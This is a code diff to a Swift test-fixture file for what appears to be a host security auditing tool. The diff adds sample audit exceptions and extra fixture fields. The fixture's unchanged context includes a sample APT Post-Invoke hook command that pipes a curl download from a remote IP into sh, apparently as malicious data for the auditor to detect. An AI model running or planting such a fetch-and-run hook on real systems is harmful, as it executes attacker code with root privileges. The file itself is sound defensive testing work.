@@ -20,7 +20,30 @@ enum SampleReport {
         names.key = text
         names.command = text
         names.archive = UntrustedText(Array("/archives/".utf8) + text.bytes)
+        names.program = HostPath("/usr/local/bin".utf8).appending(text)
+        names.log = text
         return make(names, limits: ["The tree says \(text)."])
+    }
+
+    /// The same host with exceptions: one that silences the first finding, and one that expired; their texts are given.
+    static func excepting(_ text: UntrustedText) -> AuditReport {
+        let sample = findings()
+        var silenced = sample.findings
+        silenced[0].exceptedBy = text
+        let source = ExceptionSource(file: text, line: 7)
+        let expiry = ExceptionExpiry(end: Timestamp(seconds: 1_700_000_000), written: text)
+        let used = AuditException(
+            id: text, scope: .disk, rules: [text], conditions: [], reason: text, owner: text, source: source)
+        let expired = AuditException(id: "old", scope: .disk, conditions: [], expiry: expiry, source: source)
+        return AuditReport(
+            run: sample.run, host: sample.host, policy: sample.policy, coverage: sample.coverage,
+            artifacts: sample.artifacts, findings: silenced, hooks: sample.hooks, packageCount: 2, archiveCount: 1,
+            checks: sample.checks, indexes: sample.indexes,
+            exceptions: [
+                ExceptionStanding(
+                    exception: used, state: .used, breadth: nil, uses: [.finding(id: silenced[0].id)], useCount: 1),
+                ExceptionStanding(exception: expired, state: .expired, breadth: nil, uses: [], useCount: 0),
+            ])
     }
 
     /// Nothing found, everything examined.
@@ -46,6 +69,8 @@ enum SampleReport {
         var key: UntrustedText = "APT::Update::Post-Invoke::"
         var command: UntrustedText = "/usr/bin/curl -s http://192.0.2.7/u | sh"
         var archive: UntrustedText = "/archives/openssh-server_9.2p1-2+deb12u3_amd64.deb"
+        var program: HostPath = "/usr/bin/mv"
+        var log: UntrustedText = "events.ndjson"
 
         var owner: PackageKey { PackageKey(name: package, architecture: "amd64") }
     }
@@ -60,7 +85,7 @@ enum SampleReport {
             CoverageGap(path: names.script.appending("x"), reason: "cannot be read: \(names.host)", errno: 13)
         ]
         coverage.limits = limits
-        return AuditReport(
+        var report = AuditReport(
             run: RunIdentity(
                 version: "0.1.0", started: Timestamp(seconds: 1_795_435_200, nanoseconds: 250_000_000),
                 finished: Timestamp(seconds: 1_795_435_203, nanoseconds: 125_000_000), uid: 0),
@@ -74,5 +99,8 @@ enum SampleReport {
             ],
             packageCount: 2, archiveCount: 1, checks: SampleFindings.checks,
             indexes: [SampleArtifacts.chain(names)].compactMap(\.self))
+        report.events = SampleEvents.all(names)
+        report.cases = SampleCases.all(names)
+        return report
     }
 }
